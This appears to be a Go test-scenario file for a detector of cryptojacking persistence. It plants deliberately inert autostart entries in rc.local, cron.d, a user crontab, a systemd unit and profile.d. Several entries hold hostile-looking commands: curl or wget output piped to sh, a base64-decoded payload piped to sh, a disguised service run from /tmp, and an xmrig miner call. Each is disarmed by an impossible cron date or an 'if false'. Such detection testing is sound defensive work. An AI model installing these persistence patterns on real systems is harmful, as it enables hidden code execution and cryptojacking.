@@ -1,0 +1,39 @@
+package main
+
+import "time"
+
+const (
+	// never is a schedule of cron that no day meets.
+	never = "0 0 31 2 *"
+	// persistenceSpan is longer than the pause between two looks at files.
+	persistenceSpan = 100 * time.Second
+)
+
+// entryAttacks are entries of what starts programs by itself. Each is harmless
+// to a host that really reads it: its day does not come, or its condition is
+// false. An entry alone is a warning.
+func entryAttacks() []scenario {
+	local := entry("rc.local runs from a temporary directory", "T1037.004", false, "/etc/rc.local",
+		"#!/bin/sh\nif false; then\n\t/var/tmp/.labrc95/start &\nfi\n", 0o755)
+	local.unless = "/etc/rc.local"
+	return []scenario{
+		local,
+		entry("cron.d fetches and runs", "T1053.003", true, "/etc/cron.d/cryptojack-lab-91",
+			never+" nobody curl -s http://127.0.0.1/x | sh\n", 0o644),
+		entry("user's crontab decodes and runs", "T1053.003", false, "/var/spool/cron/crontabs/cryptojack-lab",
+			never+" echo L2Jpbi90cnVlCg== | base64 -d | sh\n", 0o600),
+		entry("service runs from a hidden place", "T1543.002", false, "/etc/systemd/system/cryptojack-lab-93.service",
+			"[Unit]\nDescription=Kernel Thread Daemon\n\n[Service]\nExecStart=/tmp/.labsvc93/y\nRestart=always\n", 0o644),
+		entry("profile fetches and runs", "T1546.004", false, "/etc/profile.d/cryptojack-lab-94.sh",
+			"if false; then\n\twget -q -O - http://127.0.0.1/x | sh\nfi\n", 0o644),
+		entry("cron.d runs a known miner", "T1053.003", false, "/etc/cron.d/cryptojack-lab-96",
+			never+" nobody /usr/local/lib/xmrig --version\n", 0o644),
+	}
+}
+
+func entry(name, technique string, short bool, path, content string, mode uint32) scenario {
+	return scenario{
+		name: name, technique: technique, expect: warning, short: short, watch: persistenceSpan, paths: []string{path},
+		play: writes(path, content, mode),
+	}
+}
